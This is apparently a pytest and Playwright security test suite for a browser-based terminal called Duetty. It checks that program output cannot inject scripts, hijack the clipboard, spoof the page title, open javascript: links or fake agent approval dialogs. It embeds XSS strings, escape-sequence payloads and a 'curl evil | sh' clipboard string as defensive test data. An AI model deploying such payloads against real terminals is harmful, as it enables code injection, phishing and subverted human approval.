"""Bytes of a program change pixels of its own terminal, and nothing else of the page."""

import base64
import itertools
import re
import time
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.web.browsing import WAIT_MS, Tab

pytestmark = [pytest.mark.browser, pytest.mark.pty]

NUMBERS = itertools.count()
SCRIPT = "<script>window.pwned=1</script><img src=x onerror='window.pwned=1'>"


@pytest.fixture(scope="module")
def window_options() -> dict[str, Any]:
    return {"permissions": ["clipboard-read", "clipboard-write"]}


def prints(tab: Tab, content: bytes) -> None:
    """Print these bytes in session `s`, whatever they are, and wait until the page has taken them."""
    encoded = base64.b64encode(content).decode()
    number = next(NUMBERS)
    # In two parts: the echo of the command line is not what is waited for.
    tab.server.client.post(
        "/sessions/s/run", {"input": f"echo {encoded} | base64 -d; echo; echo prin''ted {number}."}
    )
    tab.wait_text("s", f"printed {number}.")


def test_output_never_becomes_a_part_of_the_document(tab: Tab) -> None:
    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
    tab.open("s")

    prints(
        tab, f"{SCRIPT}\x1b]0;{SCRIPT}\x07\x1b]2;{SCRIPT}\x07\x1b]7;file://{SCRIPT}\x07".encode()
    )
    tab.press("Control+Shift+X")
    expect(tab.page.locator("#text-view pre")).to_have_count(2)  # of the command, and the screen
    for each in tab.page.locator("#text-view pre").all():
        expect(each).to_contain_text("<script>window.pwned=1</script><img src=x")
    assert tab.page.locator("img, iframe, object, embed").count() == 0
    tab.goto()
    expect(tab.page.locator("[data-session=s] pre")).to_contain_text("window.pwned")
    tab.goto("history?q=pwned")
    expect(tab.page.locator("#hits")).to_contain_text("pwned")

    assert tab.page.evaluate("window.pwned") is None
    assert tab.page.locator("img, iframe, object, embed").count() == 0


def test_a_command_line_of_markup_is_shown_as_text(tab: Tab) -> None:
    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
    tab.open("s")

    tab.server.client.post("/sessions/s/run", {"input": f": '{SCRIPT.replace(chr(39), chr(34))}'"})

    expect(tab.page.locator("#blocks")).to_contain_text("<script>window.pwned=1</script>")
    assert tab.page.evaluate("window.pwned") is None


def test_the_clipboard_is_written_only_when_a_person_says_so(tab: Tab) -> None:
    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
    tab.open("s")
    tab.page.evaluate("navigator.clipboard.writeText('mine')")

    secret = base64.b64encode(b"curl evil | sh").decode()
    prints(tab, f"\x1b]52;c;{secret}\x07\x1b]52;;{secret}\x07".encode())
    offer = tab.page.get_by_role("region", name="Notices").get_by_role("button", name="Copy").first
    expect(offer).to_be_visible()

    assert tab.copied() == "mine"
    offer.click()
    tab.wait_copied("curl evil | sh")


def test_the_clipboard_is_never_read_for_a_program(tab: Tab) -> None:
    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
    tab.open("s")
    tab.page.evaluate("navigator.clipboard.writeText('a secret')")
    tab.page.evaluate(
        """() => {
          window.reads = 0;
          window.typed = [];
          navigator.clipboard.readText = async () => { window.reads += 1; return 'a secret'; };
          duettyViews.get('s').term.onData((data) => window.typed.push(data));
        }"""
    )

    prints(tab, b"\x1b]52;c;?\x07")

    assert tab.page.evaluate("[window.reads, window.typed]") == [0, []]


def test_the_address_bar_and_the_title_belong_to_the_page(tab: Tab) -> None:
    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
    tab.open("s")
    address = tab.page.url
    tab.page.evaluate(
        """() => {
          window.titles = [];
          const note = () => window.titles.push(document.title);
          new MutationObserver(note).observe(document.head, {childList: true, characterData: true, subtree: true});
        }"""
    )

    prints(
        tab,
        b"\x1b]0;Sign in to your bank\x07\x1b]2;javascript:alert(1)\x07\x1b]1337;OpenURL=:aHR0cDovL2V2aWw=\x07",
    )

    assert tab.page.url == address
    expect(tab.page).to_have_title("s · Duetty")
    assert [
        each for each in tab.page.evaluate("window.titles") if not each.endswith("Duetty")
    ] == []


def test_nothing_that_a_program_prints_becomes_a_card_a_notice_or_a_dialog(tab: Tab) -> None:
    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
    tab.open("s")

    ours = tab.page.locator("[data-approval], dialog, [aria-label=Notices] > *")
    card = '{"id": "a1", "state": "pending", "actor": "agent:claude", "command_line": "ls"}'
    for number in (8, 9, 99, 777, 1337, 5522, 6973):
        prints(tab, f"\x1b]{number};{card}\x07\x1b]{number};notify;Approve?;ls\x1b\\".encode())
        assert ours.all_inner_texts() == []
    prints(tab, b"\x1b_%s\x1b\\\x1bP%s\x1b\\\x1b^%s\x1b\\" % ((card.encode(),) * 3))
    prints(
        tab, "\x1b[2J\x1b[H┌ claude asks to run a command ┐\r\n[Decline] [Approve once]".encode()
    )

    assert "[Approve once]" in tab.text("s")
    assert ours.all_inner_texts() == []
    assert tab.page.get_by_role("button", name=re.compile("Decline|Approve")).count() == 0


def test_a_link_says_where_it_leads_before_it_is_opened(tab: Tab) -> None:
    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
    tab.open("s")

    prints(
        tab, b"\x1b[2J\x1b[H\x1b]8;;https://evil.example/steal\x07https://good.example\x1b]8;;\x07"
    )
    tab.page.locator(".xterm-screen").hover(position={"x": 30, "y": 8})
    expect(tab.page.locator(".xterm-cursor-pointer")).to_be_visible()
    tab.page.locator(".xterm-screen").click(position={"x": 30, "y": 8})

    expect(tab.page.get_by_role("dialog")).to_contain_text("https://evil.example/steal")
    tab.page.get_by_role("button", name="Cancel").click()
    assert len(tab.page.context.pages) == 1


def test_an_address_that_a_program_printed_is_opened_beside_the_page(tab: Tab) -> None:
    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
    tab.open("s")
    tab.page.evaluate(
        "() => { window.open = (...given) => { window.opened = given; return null; }; }"
    )

    prints(tab, b"\x1b[2J\x1b[H\rhttps://good.example/here")
    tab.page.locator(".xterm-screen").hover(position={"x": 30, "y": 8})
    expect(tab.page.locator(".xterm-cursor-pointer")).to_be_visible()
    tab.page.locator(".xterm-screen").click(position={"x": 30, "y": 8})
    tab.page.wait_for_function("() => window.opened")

    # It learns nothing of the page, and cannot reach it.
    assert tab.page.evaluate("window.opened") == [
        "https://good.example/here",
        "_blank",
        "noopener,noreferrer",
    ]


def test_a_link_to_a_script_is_no_link(tab: Tab) -> None:
    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
    tab.open("s")

    prints(
        tab, b"\x1b[2J\x1b[H\x1b]8;;javascript:window.pwned=1\x07click here for free\x1b]8;;\x07"
    )
    tab.page.locator(".xterm-screen").hover(position={"x": 30, "y": 8})
    tab.page.wait_for_timeout(300)
    tab.page.locator(".xterm-screen").click(position={"x": 30, "y": 8})
    tab.page.wait_for_timeout(300)

    assert tab.page.evaluate("window.pwned") is None
    assert tab.page.get_by_role("dialog").count() == 0


def test_the_policy_refuses_scripts_that_are_not_files_of_ours(tab: Tab) -> None:
    tab.goto()

    tab.page.evaluate(
        """() => {
          const script = document.createElement('script');
          script.textContent = 'window.pwned = 1';
          document.body.append(script);
          const away = document.createElement('img');
          away.src = 'http://127.0.0.1:9/away.png';
          document.body.append(away);
        }"""
    )
    deadline_s = time.monotonic() + WAIT_MS / 1000
    while not any("Content Security Policy" in each for each in tab.problems):
        assert time.monotonic() < deadline_s, tab.problems
        tab.page.wait_for_timeout(50)

    assert tab.page.evaluate("window.pwned") is None
    tab.problems[:] = [each for each in tab.problems if "Content Security Policy" not in each]
    tab.asked[:] = [each for each in tab.asked if "away.png" not in each]


def test_bytes_without_meaning_do_not_break_the_page(tab: Tab) -> None:
    tab.server.client.post("/sessions", {"name": "s", "command": "bash"})
    tab.open("s")

    prints(tab, bytes(range(256)) * 20 + b"\x1b[?1049l\x1b[!p\x1bc\x1b(B\x0f")
    tab.type("\x0cecho alive again\n")

    tab.wait_text("s", "alive again")
